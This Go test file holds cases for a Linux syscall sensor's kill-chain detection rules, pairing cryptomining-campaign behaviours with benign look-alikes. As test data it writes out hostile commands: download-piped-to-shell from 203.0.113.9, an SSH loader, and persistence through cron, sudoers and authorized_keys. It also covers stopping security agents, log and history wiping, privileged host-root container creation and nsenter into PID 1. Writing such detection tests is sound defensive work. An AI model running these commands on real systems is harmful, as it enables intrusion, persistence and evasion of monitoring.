package analyze

import (
	"saker/event"
)

// Event builders for the kill-chain cases, as the sensor records the syscalls.

const userCgroup = "0::/user.slice/user-0.slice"

// script is a child of the root shell (pid 900) that the kernel started for filename with
// the interpreter exepath: comm is the script's base name and argv what the interpreter got.
func script(ts uint64, child uint32, filename, exepath, comm, cwd string, argv ...string) []event.Event {
	e := execve(ts+1, child, exepath, argv, 0, userCgroup)
	e = withArg(e, "filename", event.Str(filename))
	e = withArg(e, "comm", event.Str(comm))
	e = withArg(e, "cwd", event.Str(cwd))
	return one(fork(ts, 900, child), e)
}

// under is a child of parent that execs path with argv (for ancestry cases).
func under(ts uint64, parent, child uint32, path string, argv ...string) []event.Event {
	return one(fork(ts, parent, child), execve(ts+1, child, path, argv, 0, userCgroup))
}

// openFile is a successful openat of path by pid returning fd.
func openFile(ts uint64, pid uint32, fd int64, path string, flags, mode int64) event.Event {
	return ev(ts, event.KindOpenat, pid, pid, fd, A{"dirfd": event.Int(atFDCWD), "name": event.Str(path),
		"flags": event.Int(flags), "mode": event.Int(mode)})
}

const (
	oWrCreatTrunc = 0o1101 // O_WRONLY|O_CREAT|O_TRUNC
	oWrCreatApp   = 0o2101 // O_WRONLY|O_CREAT|O_APPEND
)

func unlinkEv(ts uint64, pid uint32, path string) event.Event {
	return ev(ts, event.KindUnlinkat, pid, pid, 0, A{"dirfd": event.Int(atFDCWD), "name": event.Str(path)})
}

func renameEv(ts uint64, pid uint32, from, to string) event.Event {
	return ev(ts, event.KindRename, pid, pid, 0, A{"oldpath": event.Str(from), "newpath": event.Str(to)})
}

func chmodEv(ts uint64, pid uint32, path string, mode int64) event.Event {
	return ev(ts, event.KindChmod, pid, pid, 0, A{"filename": event.Str(path), "mode": event.Int(mode)})
}

// unixSend is a Docker API request body sent on a unix socket connected to docker.sock.
func unixSend(ts uint64, pid uint32, fd int64, body string) []event.Event {
	sa := event.Bytes(event.Sockaddr{Family: event.AFUnix, Path: []byte("/var/run/docker.sock")}.AppendBinary(nil))
	return []event.Event{
		ev(ts, event.KindSocket, pid, pid, fd, A{"domain": event.Int(event.AFUnix), "type": event.Int(1)}),
		ev(ts+1, event.KindConnect, pid, pid, 0, A{"fd": event.Int(fd), "addr": sa}),
		ev(ts+2, event.KindWrite, pid, pid, int64(len(body)), A{"fd": event.Int(fd), "size": event.Int(int64(len(body))), "data": event.Str(body)}),
	}
}

// killChainRuleCases are the cases of the kill-chain rules: each rule fires on what a
// campaign script does and stays quiet on the benign look-alike named in its description.
func killChainRuleCases() []ruleCase {
	const (
		pipe    = "Download Piped to Shell"
		scr     = "Script Run from Temporary or Hidden Directory"
		dl      = "Downloader Wrote File in Temporary or Hidden Directory"
		chx     = "File Made Executable in Temporary or Hidden Directory"
		kill    = "Competing Miner Killed"
		del     = "Competing Miner Files Deleted"
		fw      = "Firewall Rule Drops Mining Pool Port"
		chattr  = "Immutable Attribute Changed with chattr"
		agent   = "Security Agent Stopped or Removed"
		preload = "Dynamic Linker Preload File Written"
		hist    = "Shell History Cleared"
		logs    = "Log Files Deleted or Truncated"
		stomp   = "Timestomping with touch"
		kthread = "Process Masquerading as Kernel Thread"
		daemon  = "System Daemon Name from Unusual Path"
		cron    = "Cron Job Written by Non-Editor"
		ctab    = "Crontab Installed from Standard Input or Temporary File"
		keys    = "SSH Authorized Keys Modified by Non-Editor"
		unit    = "Systemd Unit Written by Non-Editor"
		rc      = "Init Script or rc.local Written by Non-Editor"
		acct    = "Account or Sudoers File Written Directly"
		user    = "User Account Created"
		scan    = "Network Scanner Executed"
		harvest = "SSH Targets Harvested from Known Hosts or History"
		sshdl   = "SSH Command Spreading a Download"
		worm    = "Outbound Connection to Docker API, Redis or Kubelet Port"
		priv    = "Privileged or Host-Root Container Created"
		nsent   = "Nsenter into Init's Namespaces"
		procrt  = "Write through Another Process's Root"
		cpu     = "CPU Limit or Priority Set to Hide Mining"
		nmi     = "NMI Watchdog Disabled"
	)
	sh := shellExec
	// dpkg (pid 950) runs a maintainer script (pid 951) whose child is pid 952.
	dpkg := func(ts uint64, path string, argv ...string) []event.Event {
		return cat(sh(ts, 950, "/usr/bin/dpkg", "dpkg", "-i", "agent.deb"),
			under(ts+2, 950, 951, "/usr/bin/dash", "/bin/sh", "/var/lib/dpkg/info/agent.postinst", "configure"),
			under(ts+4, 951, 952, path, argv...))
	}
	// A program (pid 950) that then opens, removes or renames a file.
	by := func(path string, argv []string, e ...event.Event) []event.Event {
		return cat(sh(10, 950, path, argv...), e)
	}
	const apiBody = `{"Image":"alpine","Cmd":["chroot","/host","sh"],"HostConfig":{"Binds":["/:/host"],"Privileged":true}}`
	return []ruleCase{
		// Download and execute.
		{"curl pipe sh", pipe, true, "", sh(10, 950, "/usr/bin/dash", "sh", "-c", "curl -fsSL http://203.0.113.9/kinsing.sh | sh")},
		{"wget -O- pipe bash", pipe, true, "", sh(10, 950, "/usr/bin/bash", "bash", "-c", "wget -q -O- http://203.0.113.9/i.sh|bash -s x")},
		{"bash -c $(curl)", pipe, true, "", sh(10, 950, "/usr/bin/bash", "bash", "-c", `bash -c "$(curl -fsSL http://203.0.113.9/x.sh)"`)},
		{"curl pipe sh trusted installer", pipe, false, "", sh(10, 950, "/usr/bin/dash", "sh", "-c", "curl -fsSL https://get.docker.com | sh")},
		{"curl to file then grep", pipe, false, "", sh(10, 950, "/usr/bin/dash", "sh", "-c", "curl -fsSLo tool.tgz https://downloads.example.org/tool.tgz && tar xzf tool.tgz | grep bin")},
		{"curl pipe sh by dpkg", pipe, false, "", dpkg(10, "/usr/bin/dash", "sh", "-c", "curl -fsSL http://203.0.113.9/x | sh")},
		{"curl pipe sh four levels below make", pipe, true, "", cat(sh(10, 950, "/usr/bin/make", "make"),
			under(12, 950, 951, "/usr/bin/bash", "bash", "run-tests.sh"), under(14, 951, 952, "/usr/bin/python3", "python3", "agent.py"),
			under(16, 952, 953, "/usr/bin/dash", "sh", "-c", "true"), under(18, 953, 954, "/usr/bin/dash", "sh", "-c", "curl -fsSL http://203.0.113.9/x | sh"))},
		{"curl pipe sh three levels below make", pipe, false, "", cat(sh(10, 950, "/usr/bin/make", "make"),
			under(12, 950, 951, "/usr/bin/bash", "bash", "run-tests.sh"), under(14, 951, 952, "/usr/bin/python3", "python3", "agent.py"),
			under(16, 952, 953, "/usr/bin/dash", "sh", "-c", "curl -fsSL http://203.0.113.9/x | sh"))},
		{"shebang script in /dev/shm", scr, true, "", script(10, 950, "/dev/shm/.x/init.sh", "/usr/bin/dash", "init.sh", "/root", "/bin/sh", "/dev/shm/.x/init.sh")},
		{"python script in /tmp", scr, true, "", sh(10, 950, "/usr/bin/python3.11", "python3", "-u", "/tmp/spread.py", "10.0.0.0/8")},
		{"bash script in hidden dir", scr, true, "", sh(10, 950, "/usr/bin/bash", "bash", "/root/.configrc/a/upd")},
		{"relative script in /var/tmp", scr, true, "", script(10, 950, "./ldr.sh", "/usr/bin/bash", "ldr.sh", "/var/tmp", "/bin/bash", "./ldr.sh")},
		{"script in home", scr, false, "", sh(10, 950, "/usr/bin/bash", "bash", "/root/deploy.sh")},
		{"sh -c in /tmp", scr, false, "", sh(10, 950, "/usr/bin/dash", "sh", "-c", "/tmp/x --version")},
		{"pip entry point in ~/.local", scr, false, "", script(10, 950, "/root/.local/bin/black", "/usr/bin/python3.11", "black", "/root", "/usr/bin/python3", "/root/.local/bin/black", ".")},
		{"installer script in /tmp by dpkg", scr, false, "", dpkg(10, "/usr/bin/dash", "sh", "/tmp/agent-install.sh")},
		{"curl -o /tmp", dl, true, "", by("/usr/bin/curl", []string{"curl", "-o", "/tmp/kinsing", "http://203.0.113.9/kinsing"}, openFile(12, 950, 3, "/tmp/kinsing", oWrCreatTrunc, 0o666))},
		{"wget into hidden dir", dl, true, "", by("/usr/bin/wget", []string{"wget", "-P", "/usr/share/.x", "http://203.0.113.9/x"}, openFile(12, 950, 3, "/usr/share/.x/x", oWrCreatTrunc, 0o666))},
		{"curl into workspace", dl, false, "", by("/usr/bin/curl", []string{"curl", "-o", "tool.tgz", "https://downloads.example.org/tool.tgz"}, openFile(12, 950, 3, "/home/ci/work/tool.tgz", oWrCreatTrunc, 0o666))},
		{"wget hsts", dl, false, "", by("/usr/bin/wget", []string{"wget", "https://downloads.example.org/tool.tgz"}, openFile(12, 950, 3, "/root/.wget-hsts", oWrCreatTrunc, 0o644))},
		{"chmod +x /tmp file", chx, true, "", by("/usr/bin/chmod", []string{"chmod", "+x", "/tmp/kinsing"}, chmodEv(12, 950, "/tmp/kinsing", 0o755))},
		{"chmod +x hidden dir", chx, true, "", by("/usr/bin/chmod", []string{"chmod", "777", "/etc/.kinsing/kdevtmpfsi"}, chmodEv(12, 950, "/etc/.kinsing/kdevtmpfsi", 0o777))},
		{"chmod 644 /tmp file", chx, false, "", by("/usr/bin/chmod", []string{"chmod", "644", "/tmp/notes"}, chmodEv(12, 950, "/tmp/notes", 0o644))},
		{"go chmods its test binary", chx, false, "", by("/usr/local/go/bin/go", []string{"go", "test", "-c", "-o", "/tmp/with.test", "./"}, chmodEv(12, 950, "/tmp/go-build3320499218/b001/rules.test", 0o755))},
		{"chmod +x in workspace", chx, false, "", by("/usr/bin/chmod", []string{"chmod", "+x", "bin/kubectl"}, chmodEv(12, 950, "/home/ci/work/bin/kubectl", 0o755))},

		// Competition removal.
		{"pkill miner", kill, true, "", sh(10, 950, "/usr/bin/pkill", "pkill", "-f", "kdevtmpfsi")},
		{"kill line", kill, true, "", sh(10, 950, "/usr/bin/dash", "sh", "-c", "ps aux | grep -v grep | grep xmrig | awk '{print $2}' | xargs kill -9")},
		{"pkill ordinary", kill, false, "", sh(10, 950, "/usr/bin/pkill", "pkill", "-HUP", "nginx")},
		{"grep miner name", kill, false, "", sh(10, 950, "/usr/bin/grep", "grep", "xmrig", "/var/log/syslog")},
		{"rm competitor", del, true, "", by("/usr/bin/rm", []string{"rm", "-f", "/tmp/kdevtmpfsi"}, unlinkEv(12, 950, "/tmp/kdevtmpfsi"))},
		{"mv competitor", del, true, "", by("/usr/bin/mv", []string{"mv", "/usr/bin/xmrig", "/tmp/.old"}, renameEv(12, 950, "/usr/bin/xmrig", "/tmp/.old"))},
		{"rm ordinary", del, false, "", by("/usr/bin/rm", []string{"rm", "-f", "/tmp/build.log"}, unlinkEv(12, 950, "/tmp/build.log"))},
		{"iptables drop pool port", fw, true, "", sh(10, 950, "/usr/sbin/iptables", "iptables", "-A", "OUTPUT", "-p", "tcp", "--dport", "3333", "-j", "DROP")},
		{"nft drop pool port", fw, true, "", sh(10, 950, "/usr/sbin/nft", "nft", "add", "rule", "inet", "filter", "output", "tcp", "dport", "14444", "drop")},
		{"iptables accept web", fw, false, "", sh(10, 950, "/usr/sbin/iptables", "iptables", "-A", "INPUT", "-p", "tcp", "--dport", "443", "-j", "ACCEPT")},
		{"iptables drop ssh", fw, false, "", sh(10, 950, "/usr/sbin/iptables", "iptables", "-A", "INPUT", "-p", "tcp", "--dport", "22", "-j", "DROP")},
		{"chattr +i", chattr, true, "", sh(10, 950, "/usr/bin/chattr", "chattr", "+i", "/etc/cron.d/kinsing")},
		{"chattr -ia", chattr, true, "", sh(10, 950, "/usr/bin/chattr", "chattr", "-ia", "/root/.ssh/authorized_keys")},
		{"chattr +e", chattr, false, "", sh(10, 950, "/usr/bin/chattr", "chattr", "-R", "+e", "/srv/data")},
		{"chattr by dpkg", chattr, false, "", dpkg(10, "/usr/bin/chattr", "chattr", "+i", "/etc/agent.conf")},

		// Defense evasion.
		{"systemctl stop auditd", agent, true, "", sh(10, 950, "/usr/bin/systemctl", "systemctl", "stop", "auditd")},
		{"pkill aliyun", agent, true, "", sh(10, 950, "/usr/bin/pkill", "pkill", "-9", "AliYunDun")},
		{"uninstall aegis", agent, true, "", sh(10, 950, "/usr/bin/bash", "bash", "-c", "/usr/local/aegis/uninstall.sh; rm -rf /usr/local/aegis")},
		{"apt remove falco", agent, true, "", sh(10, 950, "/usr/bin/apt-get", "apt-get", "remove", "-y", "falco")},
		{"systemctl restart auditd", agent, false, "", sh(10, 950, "/usr/bin/systemctl", "systemctl", "restart", "auditd")},
		{"dpkg stops falco for upgrade", agent, false, "", dpkg(10, "/usr/bin/systemctl", "systemctl", "stop", "falco")},
		{"ld.so.preload written", preload, true, "", by("/usr/bin/bash", []string{"bash"}, openFile(12, 950, 3, "/etc/ld.so.preload", oWrCreatApp, 0o644))},
		{"ld.so.preload renamed in", preload, true, "", by("/usr/bin/mv", []string{"mv", "/tmp/p", "/etc/ld.so.preload"}, renameEv(12, 950, "/tmp/p", "/etc/ld.so.preload"))},
		{"ld.so.preload read", preload, false, "", by("/usr/bin/ls", []string{"ls"}, openFile(12, 950, 3, "/etc/ld.so.preload", 0o2000000, 0))},
		{"history truncated", hist, true, "", by("/usr/bin/bash", []string{"bash"}, openFile(12, 950, 3, "/root/.bash_history", oWrCreatTrunc, 0o600))},
		{"history deleted", hist, true, "", by("/usr/bin/rm", []string{"rm", "-f", "/root/.bash_history"}, unlinkEv(12, 950, "/root/.bash_history"))},
		{"history unset in line", hist, true, "", sh(10, 950, "/usr/bin/bash", "bash", "-c", "unset HISTFILE; history -c; curl x")},
		{"history appended", hist, false, "", by("/usr/bin/bash", []string{"bash"}, openFile(12, 950, 3, "/root/.bash_history", oWrCreatApp, 0o600))},
		{"auth.log truncated", logs, true, "", by("/usr/bin/dash", []string{"sh", "-c", "echo > /var/log/auth.log"}, openFile(12, 950, 3, "/var/log/auth.log", oWrCreatTrunc, 0o640))},
		{"wtmp deleted", logs, true, "", by("/usr/bin/rm", []string{"rm", "-f", "/var/log/wtmp"}, unlinkEv(12, 950, "/var/log/wtmp"))},
		{"logrotate renames syslog", logs, false, "", by("/usr/sbin/logrotate", []string{"logrotate", "/etc/logrotate.conf"}, renameEv(12, 950, "/var/log/syslog", "/var/log/syslog.1"))},
		{"app log truncated", logs, false, "", by("/usr/bin/myapp", []string{"myapp"}, openFile(12, 950, 3, "/var/log/myapp/app.log", oWrCreatTrunc, 0o640))},
		{"touch -r binary", stomp, true, "", sh(10, 950, "/usr/bin/touch", "touch", "-r", "/usr/bin/ls", "/usr/bin/.sshd")},
		{"touch -d tmp", stomp, true, "", sh(10, 950, "/usr/bin/touch", "touch", "-d", "2019-01-01", "/tmp/kinsing")},
		{"touch new file", stomp, false, "", sh(10, 950, "/usr/bin/touch", "touch", "/tmp/ready")},
		{"touch -d in build", stomp, false, "", cat(sh(10, 950, "/usr/bin/make", "make"), under(12, 950, 951, "/usr/bin/touch", "touch", "-d", "@0", "/tmp/build/stamp"))},
		{"argv0 kworker", kthread, true, "", sh(10, 950, "/root/.x/run", "[kworker/0:1]")},
		{"name kdevtmpfsi", kthread, true, "", sh(10, 950, "/tmp/kdevtmpfsi", "kdevtmpfsi")},
		{"name kswapd0", kthread, true, "", sh(10, 950, "/var/tmp/.x/kswapd0", "./kswapd0")},
		{"ordinary name", kthread, false, "", sh(10, 950, "/usr/bin/kmod", "kmod", "list")},
		{"sshd from /var/tmp", daemon, true, "", sh(10, 950, "/var/tmp/.ICE-unix/sshd", "sshd")},
		{"sshd from /usr/sbin", daemon, false, "", sh(10, 950, "/usr/sbin/sshd", "sshd", "-D")},

		// Persistence.
		{"echo >> crontab", cron, true, "", by("/usr/bin/bash", []string{"bash", "-c", "echo '* * * * * root curl x|sh' >> /etc/crontab"}, openFile(12, 950, 3, "/etc/crontab", oWrCreatApp, 0o644))},
		{"cron.d file", cron, true, "", by("/usr/bin/cp", []string{"cp", "/tmp/c", "/etc/cron.d/apache"}, openFile(12, 950, 3, "/etc/cron.d/apache", oWrCreatTrunc, 0o644))},
		{"crontab program writes spool", cron, false, "", by("/usr/bin/crontab", []string{"crontab", "-e"}, openFile(12, 950, 3, "/var/spool/cron/crontabs/tmp.Xa1", oWrCreatTrunc, 0o600), renameEv(13, 950, "/var/spool/cron/crontabs/tmp.Xa1", "/var/spool/cron/crontabs/root"))},
		{"vim edits cron.d", cron, false, "", by("/usr/bin/vim.basic", []string{"vim", "/etc/cron.d/backup"}, openFile(12, 950, 3, "/etc/cron.d/backup", oWrCreatTrunc, 0o644))},
		{"crontab -", ctab, true, "", sh(10, 950, "/usr/bin/crontab", "crontab", "-")},
		{"crontab /tmp file", ctab, true, "", sh(10, 950, "/usr/bin/crontab", "crontab", "/tmp/.c")},
		{"crontab -e", ctab, false, "", sh(10, 950, "/usr/bin/crontab", "crontab", "-e")},
		{"crontab -l", ctab, false, "", sh(10, 950, "/usr/bin/crontab", "crontab", "-l", "-u", "www-data")},
		{"key appended by shell", keys, true, "", by("/usr/bin/bash", []string{"bash", "-c", "echo ssh-rsa AAAA >> /root/.ssh/authorized_keys"}, openFile(12, 950, 3, "/root/.ssh/authorized_keys", oWrCreatApp, 0o600))},
		{"keys renamed in", keys, true, "", by("/usr/bin/mv", []string{"mv", "/tmp/k", "/root/.ssh/authorized_keys"}, renameEv(12, 950, "/tmp/k", "/root/.ssh/authorized_keys"))},
		{"keys edited with vim", keys, false, "", by("/usr/bin/vim.basic", []string{"vim", "/root/.ssh/authorized_keys"}, openFile(12, 950, 3, "/root/.ssh/authorized_keys", oWrCreatTrunc, 0o600))},
		{"keys read by sshd", keys, false, "", by("/usr/bin/cat", []string{"cat", "/root/.ssh/authorized_keys"}, openFile(12, 950, 3, "/root/.ssh/authorized_keys", 0, 0))},
		{"unit by shell", unit, true, "", by("/usr/bin/bash", []string{"bash", "-c", "cat > /etc/systemd/system/bot.service"}, openFile(12, 950, 3, "/etc/systemd/system/bot.service", oWrCreatTrunc, 0o644))},
		{"user unit", unit, true, "", by("/usr/bin/cp", []string{"cp", "x", "/root/.config/systemd/user/x.timer"}, openFile(12, 950, 3, "/root/.config/systemd/user/x.timer", oWrCreatTrunc, 0o644))},
		{"unit by dpkg", unit, false, "", cat(sh(10, 950, "/usr/bin/dpkg", "dpkg", "-i", "nginx.deb"), one(openFile(12, 950, 3, "/usr/lib/systemd/system/nginx.service.dpkg-new", oWrCreatTrunc, 0o644), renameEv(13, 950, "/usr/lib/systemd/system/nginx.service.dpkg-new", "/usr/lib/systemd/system/nginx.service")))},
		{"unit drop-in conf", unit, false, "", by("/usr/bin/bash", []string{"bash"}, openFile(12, 950, 3, "/etc/systemd/system/nginx.service.d/override.conf", oWrCreatTrunc, 0o644))},
		{"rc.local by shell", rc, true, "", by("/usr/bin/bash", []string{"bash"}, openFile(12, 950, 3, "/etc/rc.local", oWrCreatApp, 0o755))},
		{"init.d by cp", rc, true, "", by("/usr/bin/cp", []string{"cp"}, openFile(12, 950, 3, "/etc/init.d/networkservice", oWrCreatTrunc, 0o755))},
		{"rc.local by vim", rc, false, "", by("/usr/bin/vim.basic", []string{"vim", "/etc/rc.local"}, openFile(12, 950, 3, "/etc/rc.local", oWrCreatTrunc, 0o755))},
		{"sudoers appended", acct, true, "", by("/usr/bin/bash", []string{"bash", "-c", "echo 'hilde ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers"}, openFile(12, 950, 3, "/etc/sudoers", oWrCreatApp, 0o440))},
		{"passwd by sed", acct, true, "", by("/usr/bin/sed", []string{"sed", "-i", "s/x/y/", "/etc/passwd"}, openFile(12, 950, 3, "/etc/sedAb12", oWrCreatTrunc, 0o644), renameEv(13, 950, "/etc/sedAb12", "/etc/passwd"))},
		{"useradd writes passwd", acct, false, "", by("/usr/sbin/useradd", []string{"useradd", "-m", "dev"}, openFile(12, 950, 3, "/etc/passwd+", oWrCreatTrunc, 0o644), renameEv(13, 950, "/etc/passwd+", "/etc/passwd"))},
		{"visudo writes sudoers.d", acct, false, "", by("/usr/sbin/visudo", []string{"visudo", "-f", "/etc/sudoers.d/ops"}, openFile(12, 950, 3, "/etc/sudoers.d/ops", oWrCreatTrunc, 0o440))},
		{"useradd by script", user, true, "", sh(10, 950, "/usr/sbin/useradd", "useradd", "-m", "-p", "x", "-s", "/bin/bash", "hilde")},
		{"useradd by dpkg", user, false, "", dpkg(10, "/usr/sbin/useradd", "useradd", "--system", "_chrony")},

		// Lateral movement.
		{"masscan", scan, true, "", sh(10, 950, "/tmp/.x/masscan", "masscan", "-p2375,6379", "10.0.0.0/8", "--rate", "10000")},
		{"nmap", scan, false, "", sh(10, 950, "/usr/bin/nmap", "nmap", "-sV", "10.0.0.5")},
		{"cat known_hosts", harvest, true, "", sh(10, 950, "/usr/bin/cat", "cat", "/root/.ssh/known_hosts", "/home/ubuntu/.ssh/known_hosts")},
		{"find id_rsa", harvest, true, "", sh(10, 950, "/usr/bin/find", "find", "/", "-maxdepth", "3", "-name", "id_rsa*")},
		{"ssh-keygen on known_hosts", harvest, false, "", sh(10, 950, "/usr/bin/ssh-keygen", "ssh-keygen", "-R", "10.0.0.7", "-f", "/root/.ssh/known_hosts")},
		{"ssh loader", sshdl, true, "", sh(10, 950, "/usr/bin/ssh", "ssh", "-oStrictHostKeyChecking=no", "-oBatchMode=yes", "-i", "/root/.ssh/id_rsa", "root@10.0.0.7", "(curl -fsSL http://203.0.113.9/i.sh||wget -q -O- http://203.0.113.9/i.sh)|sh")},
		{"ssh deploy", sshdl, false, "", sh(10, 950, "/usr/bin/ssh", "ssh", "-o", "StrictHostKeyChecking=no", "deploy@10.0.0.7", "./deploy.sh")},
		{"python to docker api", worm, true, "", cat(sh(10, 950, "/usr/bin/python3", "python3", "w.py"), connectTo(12, 950, 3, "10.0.0.5:41022", "10.0.0.77:2375"))},
		{"python to redis", worm, true, "", cat(sh(10, 950, "/usr/bin/python3", "python3", "w.py"), connectTo(12, 950, 3, "10.0.0.5:41022", "10.0.0.78:6379"))},
		{"redis-cli to redis", worm, false, "", cat(sh(10, 950, "/usr/bin/redis-cli", "redis-cli", "-h", "10.0.0.78"), connectTo(12, 950, 3, "10.0.0.5:41022", "10.0.0.78:6379"))},
		{"python to local redis", worm, false, "", cat(sh(10, 950, "/usr/bin/python3", "python3", "app.py"), connectTo(12, 950, 3, "127.0.0.1:41022", "127.0.0.1:6379"))},

		// Container escape and abuse.
		{"docker run host root", priv, true, "", sh(10, 950, "/usr/bin/docker", "docker", "run", "-d", "-v", "/:/host", "alpine", "chroot", "/host", "sh")},
		{"docker run privileged", priv, true, "", sh(10, 950, "/usr/bin/docker", "docker", "run", "--rm", "--privileged", "alpine")},
		{"docker api body", priv, true, "", cat(sh(10, 950, "/usr/bin/curl", "curl", "--unix-socket", "/var/run/docker.sock"), unixSend(12, 950, 3, apiBody))},
		{"docker run ordinary", priv, false, "", sh(10, 950, "/usr/bin/docker", "docker", "run", "--rm", "-v", "/srv/app:/app", "node:20", "npm", "test")},
		{"docker api ordinary body", priv, false, "", cat(sh(10, 950, "/usr/bin/curl", "curl", "--unix-socket", "/var/run/docker.sock"), unixSend(12, 950, 3, `{"Image":"nginx","HostConfig":{"Binds":["/srv/www:/usr/share/nginx/html:ro"],"Privileged":false}}`))},
		{"nsenter -t 1", nsent, true, "", sh(10, 950, "/usr/bin/nsenter", "nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "bash")},
		{"nsenter --target=1", nsent, true, "", sh(10, 950, "/usr/bin/nsenter", "nsenter", "--target=1", "--mount", "sh")},
		{"nsenter other pid", nsent, false, "", sh(10, 950, "/usr/bin/nsenter", "nsenter", "-t", "1234", "-n", "ip", "addr")},
		{"write /proc/1/root", procrt, true, "", by("/usr/bin/bash", []string{"bash"}, openFile(12, 950, 3, "/proc/1/root/etc/cron.d/x", oWrCreatTrunc, 0o644))},
		{"read /proc/1/root", procrt, false, "", by("/usr/bin/cat", []string{"cat"}, openFile(12, 950, 3, "/proc/1/root/etc/os-release", 0, 0))},

		// Resource hijack.
		{"cpulimit", cpu, true, "", sh(10, 950, "/usr/bin/cpulimit", "cpulimit", "-l", "50", "-p", "1234")},
		{"nice tmp program", cpu, true, "", sh(10, 950, "/usr/bin/nice", "nice", "-n", "19", "/tmp/.x/syncd")},
		{"nice make", cpu, false, "", sh(10, 950, "/usr/bin/nice", "nice", "-n", "5", "make", "-j4")},
		{"nmi_watchdog write", nmi, true, "", by("/usr/bin/bash", []string{"bash"}, openFile(12, 950, 3, "/proc/sys/kernel/nmi_watchdog", oWrCreatTrunc, 0o644))},
		{"sysctl nmi_watchdog", nmi, true, "", sh(10, 950, "/usr/sbin/sysctl", "sysctl", "-w", "kernel.nmi_watchdog=0")},
		{"nmi_watchdog read", nmi, false, "", by("/usr/bin/cat", []string{"cat"}, openFile(12, 950, 3, "/proc/sys/kernel/nmi_watchdog", 0, 0))},
	}
}
